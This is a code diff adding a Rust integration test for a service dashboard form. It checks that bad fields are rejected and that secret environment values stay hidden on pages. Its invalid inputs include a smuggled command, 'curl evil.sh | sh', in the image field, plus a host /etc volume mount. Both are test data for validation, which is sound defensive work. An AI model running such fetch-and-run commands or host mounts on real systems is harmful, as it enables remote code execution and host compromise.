@@ -195,3 +195,76 @@ async fn another_teams_service_does_not_exist_for_you(pool: PgPool) {
         assert_eq!(r.status().as_u16(), 401, "{method} {path}");
     }
 }
+
+#[sqlx::test(migrations = false)]
+async fn the_dashboard_form_reports_each_bad_field_and_pages_show_services(pool: PgPool) {
+    let s = TestServer::start(pool).await;
+    let c = s.owner().await;
+    // The form posts plain fields, as a browser does.
+    let bad = [
+        ("id", ""),
+        ("form[name]", "Bad Name"),
+        ("form[image]", "nginx && curl evil.sh | sh"),
+        ("form[replicas]", "500"),
+        ("form[ports]", "eighty"),
+        ("form[volumes]", "/etc:/host"),
+        ("form[env]", "GOOD=1\nNO_EQUALS_SIGN"),
+    ];
+    let r = c
+        .post(s.url("/api/save_service"))
+        .form(&bad)
+        .send()
+        .await
+        .unwrap();
+    assert!(r.status().is_success(), "{}", r.status());
+    let outcome: Value = r.json().await.unwrap();
+    let mut fields: Vec<&str> = outcome["Invalid"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["field"].as_str().unwrap())
+        .collect();
+    fields.sort();
+    fields.dedup();
+    assert_eq!(
+        fields,
+        ["env", "image", "name", "ports", "replicas", "volumes"],
+        "{outcome}"
+    );
+    assert_eq!(s.count("services").await, 0);
+
+    let good = [
+        ("id", ""),
+        ("form[name]", "web"),
+        ("form[image]", "nginx:1.27"),
+        ("form[replicas]", "2"),
+        ("form[env]", "GREETING=hello"),
+        ("form[secret_env]", "TOKEN=abc"),
+    ];
+    let outcome: Value = c
+        .post(s.url("/api/save_service"))
+        .form(&good)
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    let id = outcome["Saved"]["id"].as_str().expect("saved").to_owned();
+
+    let list = s.page(&c, "/services").await;
+    assert!(list.contains("data-service=\"web\""), "{list}");
+    assert!(list.contains("nginx:1.27"));
+    let detail = s.page(&c, &format!("/services/{id}")).await;
+    assert!(detail.contains("id=\"service-name\">web<"), "{detail}");
+    assert!(detail.contains("GREETING, TOKEN"), "env names shown");
+    assert!(
+        !detail.contains("abc"),
+        "secret values never reach the page"
+    );
+    let edit = s.page(&c, &format!("/services/{id}/edit")).await;
+    assert!(edit.contains("TOKEN="), "{edit}");
+    assert!(!edit.contains("TOKEN=abc"));
+    let new = s.page(&c, "/services/new").await;
+    assert!(new.contains("name=\"form[image]\""));
+}
